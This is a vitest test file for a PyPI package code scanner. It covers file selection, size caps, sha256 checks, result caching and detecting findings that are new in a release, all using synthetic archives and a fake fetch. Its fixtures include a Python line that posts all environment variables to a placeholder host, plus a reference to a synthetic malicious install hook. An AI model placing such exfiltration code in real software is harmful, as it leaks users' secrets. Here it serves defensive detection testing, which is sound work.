// Downloading distributions for the code checks: which files are chosen, the automatic size cap and
// "Inspect anyway", the sha256 check against PyPI's digest, the result cache keyed by sha256, and the
// error kinds — with a fake fetch serving synthetic archives built in the test.
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { DistributionFile } from '../../../../../utils/contract/report';
import { Http } from '../../../../../utils/sources/http';
import { resultCacheKey, scanReleaseCode } from '../../../../../utils/background/build/code-scan';
import { AUTO_SCAN_MAX_BYTES, chooseFiles } from '../../../../../utils/sources/files';
import { INSTALL_HOOK_SETUP_PY, syntheticSdist, syntheticWheel } from '../../analysis/code-scan/synthetic-archives';

const NOW = Date.parse('2026-11-25T12:00:00Z');
const BASE = 'https://files.pythonhosted.org/packages/ab/cd/0123456789abcdef/';

function file(filename: string, body: Uint8Array, overrides: Partial<DistributionFile> = {}): DistributionFile {
  return {
    filename,
    url: `${BASE}${filename}`,
    packageType: filename.endsWith('.whl') ? 'bdist_wheel' : 'sdist',
    sha256: createHash('sha256').update(body).digest('hex'),
    size: body.length,
    uploadedAt: '2026-11-01T00:00:00Z',
    yanked: false,
    ...overrides,
  };
}

function serve(bodies: Record<string, Uint8Array>) {
  const requested: string[] = [];
  const fetch = (async (url: string) => {
    requested.push(String(url));
    const body = bodies[String(url)];
    return body ? new Response(body as Uint8Array<ArrayBuffer>, { status: 200 }) : new Response('Not Found', { status: 404 });
  }) as unknown as typeof globalThis.fetch;
  return { http: new Http({ fetch, now: () => NOW }), requested };
}

const now = () => NOW;
const sdistBody = await syntheticSdist('synthetic-stealer', '1.0.0', { 'setup.py': INSTALL_HOOK_SETUP_PY });
const wheelBody = syntheticWheel({ 'synthetic_stealer/__init__.py': '' });
const sdist = file('synthetic-stealer-1.0.0.tar.gz', sdistBody);
const wheel = file('synthetic_stealer-1.0.0-py3-none-any.whl', wheelBody);

describe('chooseFiles', () => {
  it('takes the sdist and the pure-Python wheel, else the smallest wheel; never a file off files.pythonhosted.org', () => {
    const linux = file('x-1.0-cp311-cp311-manylinux_2_17_x86_64.whl', new Uint8Array(10), { size: 5_000_000 });
    const mac = file('x-1.0-cp311-cp311-macosx_11_0_arm64.whl', new Uint8Array(10), { size: 4_000_000 });
    const offHost = file('x-1.0.tar.gz', new Uint8Array(1), { url: 'https://evil.example/x-1.0.tar.gz' });
    expect(chooseFiles([linux, mac, wheel, sdist]).map((f) => f.filename)).toEqual([sdist.filename, wheel.filename]);
    expect(chooseFiles([linux, mac]).map((f) => f.filename)).toEqual([mac.filename]);
    expect(chooseFiles([offHost])).toEqual([]);
  });
});

describe('scanReleaseCode: new in this release', () => {
  const history = (files: Record<string, DistributionFile[]>) => ({
    releases: ['0.9', '1.0', '1.1'].map((version) => ({
      version,
      uploadedAt: '2026-01-01T00:00:00Z',
      fileCount: 1,
      yanked: false,
      yankedReason: null,
      isPrerelease: false,
    })),
    filesOf: async (version: string) => files[version] ?? [],
  });
  const leak = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;

  it('two synthetic wheels: the previous one clean, the viewed one exfiltrating → marked new; its wheel scanned, not its sdist', async () => {
    const prevBody = syntheticWheel({ 'synthetic_newly/__init__.py': 'import requests\n' });
    const viewedBody = syntheticWheel({ 'synthetic_newly/__init__.py': leak });
    const prev = file('synthetic_newly-1.0-py3-none-any.whl', prevBody);
    const prevSdist = file('synthetic-newly-1.0.tar.gz', prevBody);
    const viewed = file('synthetic_newly-1.1-py3-none-any.whl', viewedBody);
    const { http, requested } = serve({ [prev.url]: prevBody, [viewed.url]: viewedBody });
    const section = await scanReleaseCode(
      http,
      { name: 'synthetic-newly', version: '1.1', files: [viewed], allowLarge: false, history: history({ '1.0': [prevSdist, prev] }) },
      now,
    );
    if (section.state !== 'ok') throw new Error(section.state);
    expect(section.data.comparedWith).toEqual({ version: '1.0', state: 'compared', reason: null });
    expect(section.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.check} ${f.newInRelease}`)).toEqual([
      'exfiltration true',
    ]);
    expect(requested.sort()).toEqual([prev.url, viewed.url].sort());
  });

  it('the same code in both releases, at another line, is not new', async () => {
    const prevBody = syntheticWheel({ 'synthetic_same/__init__.py': leak });
    const viewedBody = syntheticWheel({ 'synthetic_same/__init__.py': `X = 1\n\n\n${leak}` });
    const prev = file('synthetic_same-1.0-py3-none-any.whl', prevBody);
    const viewed = file('synthetic_same-1.1-py3-none-any.whl', viewedBody);
    const { http } = serve({ [prev.url]: prevBody, [viewed.url]: viewedBody });
    const section = await scanReleaseCode(
      http,
      { name: 'synthetic-same', version: '1.1', files: [viewed], allowLarge: false, history: history({ '1.0': [prev] }) },
      now,
    );
    if (section.state !== 'ok') throw new Error(section.state);
    expect(section.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.check} ${f.line} ${f.newInRelease}`)).toEqual([
      'exfiltration 5 false',
    ]);
  });

  it('nothing worrying in the viewed release: the previous one is not downloaded; too large: not compared, and says why', async () => {
    const cleanBody = syntheticWheel({ 'synthetic_quiet/__init__.py': 'X = 1\n' });
    const clean = file('synthetic_quiet-1.1-py3-none-any.whl', cleanBody);
    const prev = file('synthetic_quiet-1.0-py3-none-any.whl', cleanBody, { size: AUTO_SCAN_MAX_BYTES + 1 });
    const { http, requested } = serve({ [clean.url]: cleanBody });
    const quiet = await scanReleaseCode(
      http,
      { name: 'synthetic-quiet', version: '1.1', files: [clean], allowLarge: false, history: history({ '1.0': [prev] }) },
      now,
    );
    expect(quiet.state === 'ok' && quiet.data.comparedWith).toBeNull();
    expect(requested).toEqual([clean.url]);
    const leakBody = syntheticWheel({ 'synthetic_big/__init__.py': leak });
    const leaking = file('synthetic_big-1.1-py3-none-any.whl', leakBody);
    const big = serve({ [leaking.url]: leakBody });
    const section = await scanReleaseCode(
      big.http,
      { name: 'synthetic-big', version: '1.1', files: [leaking], allowLarge: false, history: history({ '1.0': [prev] }) },
      now,
    );
    expect(section.state === 'ok' && section.data.comparedWith).toMatchObject({ version: '1.0', state: 'not-compared' });
    expect(big.requested).toEqual([leaking.url]);
  });
});

describe('scanReleaseCode', () => {
  it('downloads, scans and caches the result by sha256: a second scan makes no request', async () => {
    const { http, requested } = serve({ [sdist.url]: sdistBody, [wheel.url]: wheelBody });
    const first = await scanReleaseCode(
      http,
      { name: 'synthetic-stealer', version: '1.0.0', files: [sdist, wheel], allowLarge: false },
      now,
    );
    expect(first.state).toBe('ok');
    if (first.state !== 'ok') return;
    expect(first.data).toMatchObject({
      status: 'scanned',
      hasSdist: true,
      hasWheel: true,
      totalBytes: sdistBody.length + wheelBody.length,
    });
    expect(first.data.findings.map((f) => `${f.level} ${f.check}`).sort()).toEqual(['danger decoded-exec', 'danger install-hook']);
    expect(requested.sort()).toEqual([sdist.url, wheel.url].sort());
    await http.flushWrites();
    expect(await http.cache.get(resultCacheKey(sdist.sha256!))).toBeDefined();

    const second = await scanReleaseCode(
      http,
      { name: 'synthetic-stealer', version: '1.0.0', files: [sdist, wheel], allowLarge: false },
      now,
    );
    expect(second.state === 'ok' && second.fromCache).toBe(true);
    expect(requested).toHaveLength(2);
  });

  it("the sdist's package __init__.py findings give way to the wheel's own import-time code once the wheel is read", async () => {
    const leak = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;
    const sBody = await syntheticSdist('leaky', '1.0', {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'leaky/__init__.py': leak,
    });
    const wBody = syntheticWheel({ 'leaky/__init__.py': leak });
    const s = file('leaky-1.0.tar.gz', sBody);
    const w = file('leaky-1.0-py3-none-any.whl', wBody);
    const { http } = serve({ [s.url]: sBody, [w.url]: wBody });
    const both = await scanReleaseCode(http, { name: 'leaky', version: '1.0', files: [s, w], allowLarge: false }, now);
    if (both.state !== 'ok') throw new Error(both.state);
    expect(both.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.runs} ${f.check} ${f.filename} ${f.path}`)).toEqual([
      'import exfiltration leaky-1.0-py3-none-any.whl leaky/__init__.py',
    ]);
    const sdistAlone = await scanReleaseCode(http, { name: 'leaky', version: '1.0', files: [s], allowLarge: false }, now);
    if (sdistAlone.state !== 'ok') throw new Error(sdistAlone.state);
    expect(sdistAlone.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.runs} ${f.check} ${f.path}`)).toEqual([
      'import exfiltration leaky-1.0/leaky/__init__.py',
    ]);
  });

  it('concurrent scans of one version share the downloads', async () => {
    const { http, requested } = serve({ [sdist.url]: sdistBody });
    const request = { name: 'synthetic-stealer', version: '1.0.0', files: [sdist], allowLarge: false };
    await Promise.all([scanReleaseCode(http, request, now), scanReleaseCode(http, request, now)]);
    expect(requested).toEqual([sdist.url]);
  });

  it('an sdist without any wheel is a note even before any download', async () => {
    const big = { ...sdist, size: AUTO_SCAN_MAX_BYTES + 1 };
    const { http, requested } = serve({});
    const section = await scanReleaseCode(http, { name: 'synthetic-stealer', version: '1.0.0', files: [big], allowLarge: false }, now);
    expect(section.state === 'ok' && section.data.status).toBe('too-large');
    expect(section.state === 'ok' && section.data.findings.map((f) => `${f.level} ${f.check}`)).toEqual(['info sdist-only']);
    expect(requested).toEqual([]);
  });

  it('files above the automatic cap wait for "Inspect anyway" (allowLarge)', async () => {
    const claimed = { ...sdist, size: AUTO_SCAN_MAX_BYTES - 10 };
    const claimedWheel = { ...wheel, size: 20 };
    const { http, requested } = serve({ [sdist.url]: sdistBody, [wheel.url]: wheelBody });
    const request = { name: 'synthetic-stealer', version: '1.0.0', files: [claimed, claimedWheel] };
    const waiting = await scanReleaseCode(http, { ...request, allowLarge: false }, now);
    expect(waiting.state === 'ok' && waiting.data).toMatchObject({
      status: 'too-large',
      totalBytes: AUTO_SCAN_MAX_BYTES + 10,
      capBytes: AUTO_SCAN_MAX_BYTES,
    });
    expect(requested).toEqual([]);
    const inspected = await scanReleaseCode(http, { ...request, allowLarge: true }, now);
    expect(inspected.state === 'ok' && inspected.data.status).toBe('scanned');
    expect(requested).toHaveLength(2);
  });

  it("a file that does not match PyPI's sha256 is not scanned", async () => {
    const { http } = serve({ [sdist.url]: sdistBody });
    const tampered = { ...sdist, sha256: 'f'.repeat(64) };
    const section = await scanReleaseCode(http, { name: 'synthetic-stealer', version: '1.0.0', files: [tampered], allowLarge: false }, now);
    expect(section).toEqual({
      state: 'error',
      error: { kind: 'malformed', message: `${sdist.filename} does not match the sha256 PyPI lists for it; not scanned` },
    });
  });

  it('404 from the file host is a not-found section, remembered for an hour (no repeat request)', async () => {
    const { http, requested } = serve({});
    const request = { name: 'synthetic-stealer', version: '1.0.0', files: [sdist], allowLarge: false };
    const section = await scanReleaseCode(http, request, now);
    expect(section.state === 'error' && section.error.kind).toBe('not-found');
    await scanReleaseCode(http, request, now);
    expect(requested).toHaveLength(1);
  });

  it("one file failing keeps the other's result, and says which was not checked", async () => {
    const { http } = serve({ [wheel.url]: wheelBody });
    const section = await scanReleaseCode(
      http,
      { name: 'synthetic-stealer', version: '1.0.0', files: [sdist, wheel], allowLarge: false },
      now,
    );
    expect(section.state === 'ok' && section.data.distributions.map((d) => `${d.filename} ${d.state} ${d.error?.kind ?? ''}`)).toEqual([
      `${sdist.filename} error not-found`,
      `${wheel.filename} scanned `,
    ]);
  });

  it('a release with no files says so', async () => {
    const { http } = serve({});
    const section = await scanReleaseCode(http, { name: 'x', version: '1.0', files: [], allowLarge: false }, now);
    expect(section.state === 'ok' && section.data.status).toBe('no-files');
  });
});

describe('Http.getBytes', () => {
  it('refuses non-https URLs and bodies over the cap', async () => {
    const { http } = serve({ [sdist.url]: sdistBody });
    const plain = await http.getBytes('http://files.pythonhosted.org/x', { maxBodyBytes: 10 });
    expect(!plain.ok && plain.error.kind).toBe('malformed');
    const capped = await http.getBytes(sdist.url, { maxBodyBytes: 10 });
    expect(!capped.ok && capped.error.message).toMatch(/larger than we accept/);
    const whole = await http.getBytes(sdist.url, { maxBodyBytes: 10 * 1024 * 1024 });
    expect(whole.ok && whole.data.length).toBe(sdistBody.length);
  });
});
